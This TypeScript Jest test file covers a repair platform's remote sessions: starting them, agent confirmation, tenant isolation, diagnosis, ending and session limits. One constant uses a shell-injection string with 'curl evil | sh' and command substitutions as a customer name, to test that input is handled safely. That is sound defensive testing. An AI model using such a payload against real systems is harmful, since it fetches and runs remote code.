import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { OPEN_REMOTE_SESSIONS } from '@revive/contracts/remote-sessions/session';
import { Action } from '@revive/proto/revive/audit/v1/audit';
import type { AgentChanged } from '@revive/proto/revive/fleet/v1/fleet';
import { RemoteSessionEnded, type StartRemoteSessionRequest } from '@revive/proto/revive/repairs/v1/remote_sessions';
import { systemActor } from '@revive/platform/auth/actor';
import { uuidv7 } from '@revive/platform/core/ids';
import { aUser } from '@revive/platform/testing/testkit';
import { aBenchAgent, aReport, repairsOnABench, type Bench, type BenchAgent } from './bench.js';
import { master, ordersOn } from './orders/an-order.js';

let bench: Bench;
beforeAll(async () => {
  bench = await repairsOnABench();
});
afterAll(() => bench.close());
const { assigned } = ordersOn(() => bench);

type Shop = Awaited<ReturnType<Bench['aShop']>>;
const HOSTILE = `"; curl evil | sh #$(id)\`id\``;
const wish = (customerId: string, over: Partial<StartRemoteSessionRequest> = {}): StartRemoteSessionRequest => ({
  customerId,
  tenantId: '',
  repairType: 'software',
  platform: 'windows',
  issue: 'boot_issues',
  deviceId: '',
  ...over,
});
async function aCustomer(shop: Shop, name = 'Thandi Dlamini'): Promise<string> {
  const digits = uuidv7().replace(/\D/g, '').slice(-9);
  return (
    await bench.saveCustomer.create(shop.actor, { name, phone: `082 ${digits}`, email: '', note: '', separate: false })
  ).id;
}
const begun = async (shop: Shop, over: Partial<StartRemoteSessionRequest> = {}) =>
  bench.startRemoteSession.run(shop.actor, wish(await aCustomer(shop), over));
const told = (agent: BenchAgent, tenantId: string, over: Partial<AgentChanged>): AgentChanged => ({
  agentId: agent.id,
  tenantId,
  name: 'PC',
  binding: 'unconfirmed',
  proof: '',
  version: 1,
  proofRequest: Buffer.alloc(0),
  ...over,
});
/** An agent that used the session's token, with its own device. Confirmed by code unless `confirmed` is false. */
async function joined(shop: Shop, sessionId: string, { confirmed = true } = {}) {
  const agent = aBenchAgent();
  await bench.followRemoteAgents.run(bench.event(), told(agent, shop.tenantId, { remoteSessionId: sessionId }));
  if (confirmed) await bench.confirm(agent, shop.actor, sessionId);
  const device = { ...shop.device, id: `device-${uuidv7()}`, agentId: agent.id, agentName: 'Customer PC' };
  bench.devices.set(device.id, device);
  return { agent, device };
}
const ends = async (sessionId: string) =>
  (await bench.events('repairs.remote-session'))
    .map((payload) => RemoteSessionEnded.decode(payload))
    .filter((one) => one.sessionId === sessionId);
const expireAt = (id: string, minutes: number) =>
  bench.db.tx(systemActor('test'), (em) =>
    em.query(`update remote_sessions set expires_at = now() + make_interval(mins => $2) where id = $1`, [id, minutes]),
  );
const read = (shop: Shop, id: string) => bench.readRemoteSessions.read(shop.actor, id);

describe('remote session', () => {
  // spec C041, F100, F105, E120
  it('starts for a customer of the shop and connects after the agent’s confirmation', async () => {
    const shop = await bench.aShop();
    const customerId = await aCustomer(shop, HOSTILE);
    const session = await bench.startRemoteSession.run(shop.actor, wish(customerId));
    expect(session).toMatchObject({
      tenantId: shop.tenantId,
      tenantName: 'Umbani Electronics',
      status: 'connecting',
      customerId,
      customerName: HOSTILE,
      repairType: 'software',
      platform: 'windows',
      issue: 'boot_issues',
      startedBy: shop.actor.username,
      startTime: expect.any(String),
    });
    expect(Date.parse(session.expiresAt) - Date.parse(session.startTime)).toBe(15 * 60_000);
    const { agent, device } = await joined(shop, session.sessionId, { confirmed: false });
    expect(await read(shop, session.sessionId)).toMatchObject({
      row: { status: 'connecting', agentId: agent.id },
      devices: [],
      results: [],
    });
    await bench.confirm(agent, shop.actor, session.sessionId);
    expect(await read(shop, session.sessionId)).toMatchObject({
      row: { status: 'connected', agentId: agent.id, connectedAt: expect.any(String) },
      agentName: 'Customer PC',
      agentOnline: true,
      // Devices of the shop's own bench are not part of the session.
      devices: [{ id: device.id, free: true }],
    });
    expect(
      (await bench.events('repairs.audit'))
        .map((payload) => Action.decode(payload))
        .filter((one) => one.notes.includes(session.sessionId)),
    ).toMatchObject([
      { action: 'remote_session.started' },
      { action: 'remote_session.enrolled' },
      { action: 'remote_session.connected' },
    ]);
  });

  it('requires an issue with a procedure on its platform', async () => {
    const shop = await bench.aShop();
    for (const [over, sentence] of [
      [{ issue: 'package_corruption' }, /not repaired/],
      [{ platform: 'ios' }, /Apple/],
      [{ repairType: 'firmware', issue: 'laptop_bios' }, /firmware of a laptop/],
      [{ repairType: 'firmware', issue: 'boot_issues' }, /Choose an issue/],
    ] as const)
      await expect(begun(shop, over)).rejects.toMatchObject({
        code: 'INVALID',
        message: expect.stringMatching(sentence),
      });
    expect(await bench.readRemoteSessions.list(shop.actor)).toEqual([]);
    await expect(
      begun(shop, { repairType: 'diagnostic', platform: 'ios', issue: 'hardware_check' }),
    ).resolves.toBeDefined();
  });

  // spec F103
  it.each(['customerId', 'platform', 'repairType', 'issue'] as const)('requires %s', async (field) => {
    const shop = await bench.aShop();
    await expect(begun(shop, { [field]: '' })).rejects.toMatchObject({
      code: 'INVALID',
      fields: { [field]: expect.any(String) },
    });
  });

  it('refuses other shops to start, read or end it', async () => {
    const [shop, other] = [await bench.aShop(), await bench.aShop('Another shop')];
    const theirs = await aCustomer(other);
    const start = (request: StartRemoteSessionRequest) => bench.startRemoteSession.run(shop.actor, request);
    await expect(start(wish(theirs))).rejects.toMatchObject({ code: 'NOT_FOUND' });
    await expect(start(wish((await assigned(other.tenantId)).id))).rejects.toMatchObject({ code: 'NOT_FOUND' });
    await expect(start(wish(uuidv7()))).rejects.toMatchObject({ code: 'NOT_FOUND' });
    await expect(start(wish(theirs, { tenantId: other.tenantId }))).rejects.toMatchObject({ code: 'NOT_ALLOWED' });
    await expect(begun(shop, { deviceId: other.device.id })).rejects.toMatchObject({ code: 'DEVICE_NOT_FOUND' });
    const { sessionId } = await begun(other);
    await expect(read(shop, sessionId)).rejects.toMatchObject({ code: 'NOT_FOUND' });
    await expect(bench.endRemoteSession.run(shop.actor, sessionId)).rejects.toMatchObject({ code: 'NOT_FOUND' });
    expect(await bench.readRemoteSessions.list(shop.actor)).toEqual([]);
    for (const role of ['user', 'sales', 'finance'] as const) {
      const stranger = { ...aUser({ role }), tenantId: undefined };
      await expect(bench.readRemoteSessions.list(stranger)).rejects.toMatchObject({ code: 'NOT_ALLOWED' });
      await expect(bench.startRemoteSession.run(stranger, wish(theirs))).rejects.toMatchObject({ code: 'NOT_ALLOWED' });
    }
  });

  it('starts for a remote order by its shop and by staff', async () => {
    const shop = await bench.aShop();
    const order = await assigned(shop.tenantId);
    const mine = await bench.startRemoteSession.run(shop.actor, wish(order.id));
    const staffs = await bench.startRemoteSession.run(master(), wish(order.id, { tenantId: shop.tenantId }));
    expect(mine).toMatchObject({ orderId: order.id, customerName: 'Thandi Dlamini', tenantId: shop.tenantId });
    expect((await bench.readRemoteSessions.list(shop.actor)).map(({ sessionId }) => sessionId)).toEqual([
      staffs.sessionId,
      mine.sessionId,
    ]);
    // Customers of a shop are hidden from staff.
    await expect(bench.startRemoteSession.run(master(), wish(await aCustomer(shop)))).rejects.toMatchObject({
      code: 'NOT_FOUND',
    });
  });

  it('connects once, only by a person’s confirmation of the agent with the token', async () => {
    const [shop, other] = [await bench.aShop(), await bench.aShop('Another shop')];
    const { sessionId } = await begun(shop);
    const [agent, second] = [aBenchAgent(), aBenchAgent()];
    const say = (one: BenchAgent, over: Partial<AgentChanged>, tenantId = shop.tenantId) =>
      bench.followRemoteAgents.run(bench.event(), told(one, tenantId, { remoteSessionId: sessionId, ...over }));
    await say(agent, { binding: 'confirmed' });
    expect((await read(shop, sessionId)).row).toMatchObject({ status: 'connecting' });
    await expect(say(agent, {}, other.tenantId)).rejects.toThrow('a different tenant');
    await say(agent, {});
    await say(second, {});
    expect((await read(shop, sessionId)).row?.agentId).toBe(agent.id);
    // A repeated event, and the confirmation of a different agent.
    await bench.confirm(second, shop.actor, sessionId);
    expect((await read(shop, sessionId)).row?.status).toBe('connecting');
    await bench.confirm(agent, shop.actor, sessionId);
    await bench.confirm(agent, shop.actor, sessionId);
    expect((await read(shop, sessionId)).row).toMatchObject({ status: 'connected', version: 3 });
  });

  // spec F100
  it('shows the agent’s reports as results', async () => {
    const shop = await bench.aShop();
    const { sessionId } = await begun(shop);
    const { agent, device } = await joined(shop, sessionId);
    const { repairId, runId } = await bench.diagnoseRemoteDevice.run(shop.actor, sessionId, device.id);
    expect((await read(shop, sessionId)).results).toMatchObject([
      { repairId, status: 'assessing', looked: false, findings: [] },
    ]);
    await expect(bench.endRemoteSession.run(shop.actor, sessionId)).rejects.toMatchObject({ code: 'DEVICE_BUSY' });
    const report = aReport({ runId, repairId, agentId: agent.id, deviceId: device.id });
    await bench.say(agent, shop.tenantId, { report: agent.report(report) });
    const session = await read(shop, sessionId);
    expect(session).toMatchObject({
      deviceType: 'Disk image',
      devices: [{ id: device.id, free: false, repairId }],
      results: [
        {
          repairId,
          status: 'assessed',
          looked: true,
          findings: [{ plain: 'The disk has lost its table of contents', severity: 'critical' }],
        },
      ],
    });
    await bench.endRemoteSession.run(shop.actor, sessionId);
    expect(await read(shop, sessionId)).toMatchObject({
      row: { status: 'ended' },
      devices: [],
      results: [{ repairId }],
    });
  });

  it('diagnoses devices of its connected agent for the session’s customer', async () => {
    const shop = await bench.aShop();
    const order = await assigned(shop.tenantId);
    const { sessionId } = await bench.startRemoteSession.run(shop.actor, wish(order.id));
    const diagnose = (deviceId: string, by = shop.actor) => bench.diagnoseRemoteDevice.run(by, sessionId, deviceId);
    const { agent, device } = await joined(shop, sessionId, { confirmed: false });
    await expect(diagnose(device.id)).rejects.toMatchObject({ code: 'INVALID_TRANSITION' });
    await bench.confirm(agent, shop.actor, sessionId);
    await expect(diagnose(shop.device.id)).rejects.toMatchObject({ code: 'DEVICE_NOT_FOUND' });
    await expect(diagnose(device.id, (await bench.aShop('Another')).actor)).rejects.toMatchObject({
      code: 'NOT_FOUND',
    });
    const both = await Promise.allSettled([diagnose(device.id), diagnose(device.id)]);
    expect(both.filter(({ status }) => status === 'fulfilled')).toHaveLength(1);
    expect((await bench.ordersFor(agent.id)).map(({ kind, deviceId }) => [kind, deviceId])).toEqual([
      ['diagnose', device.id],
    ]);
    // The person at the customer's PC decides: the signed order names the session.
    expect((await bench.ordersFor(agent.id))[0]?.origin).toMatchObject({ kind: 'remote', sessionId });
    const [row] = await bench.db.tx(systemActor('test'), (em) =>
      em.query<{ customer_name: string; linked: string }[]>(
        `select r.customer_name, o.id as linked from repairs r join remote_orders o on o.repair_id = r.id where r.device_id = $1`,
        [device.id],
      ),
    );
    expect(row).toEqual({ customer_name: 'Thandi Dlamini', linked: order.id });
    // The order is linked to a repair; a second device has the same customer.
    const more = { ...device, id: `device-${uuidv7()}` };
    bench.devices.set(more.id, more);
    await diagnose(more.id);
    expect((await read(shop, sessionId)).results).toHaveLength(2);
  });

  it('ends once for two simultaneous calls, with one event', async () => {
    const shop = await bench.aShop();
    const { sessionId } = await begun(shop);
    const both = await Promise.all([1, 2].map(() => bench.endRemoteSession.run(shop.actor, sessionId)));
    expect(both.map(({ status, ended }) => [status, ended])).toEqual([
      ['ended', 'by_hand'],
      ['ended', 'by_hand'],
    ]);
    expect(await ends(sessionId)).toMatchObject([{ sessionId, tenantId: shop.tenantId }]);
    // An agent that joins later does not reconnect the session.
    await joined(shop, sessionId);
    expect((await read(shop, sessionId)).row).toMatchObject({ status: 'ended' });
  });

  it('ends at its time limit and when its agent is removed', async () => {
    const shop = await bench.aShop();
    const [waiting, connected, removed] = [await begun(shop), await begun(shop), await begun(shop)];
    await joined(shop, connected.sessionId);
    await expireAt(waiting.sessionId, -1);
    await Promise.all([bench.endRemoteSession.runDue(), bench.endRemoteSession.runDue()]);
    expect((await read(shop, waiting.sessionId)).row).toMatchObject({ status: 'ended', ended: 'expired' });
    expect(await ends(waiting.sessionId)).toHaveLength(1);
    expect((await read(shop, connected.sessionId)).row?.status).toBe('connected');
    const { agent } = await joined(shop, removed.sessionId);
    await bench.followRemoteAgents.run(
      bench.event(),
      told(agent, shop.tenantId, { binding: 'revoked', version: 3, remoteSessionId: removed.sessionId }),
    );
    expect((await read(shop, removed.sessionId)).row).toMatchObject({ status: 'ended', ended: 'agent_removed' });
  });

  it('limits simultaneous sessions per shop, also for concurrent starts', async () => {
    const shop = await bench.aShop();
    const customerId = await aCustomer(shop);
    const tries = Array.from({ length: OPEN_REMOTE_SESSIONS + 3 }, () =>
      bench.startRemoteSession.run(shop.actor, wish(customerId)),
    );
    const refused = (await Promise.allSettled(tries)).filter(({ status }) => status === 'rejected');
    expect(refused).toHaveLength(3);
    expect(refused[0]).toMatchObject({ reason: { code: 'TOO_MANY', message: expect.stringContaining('End one') } });
  });
});
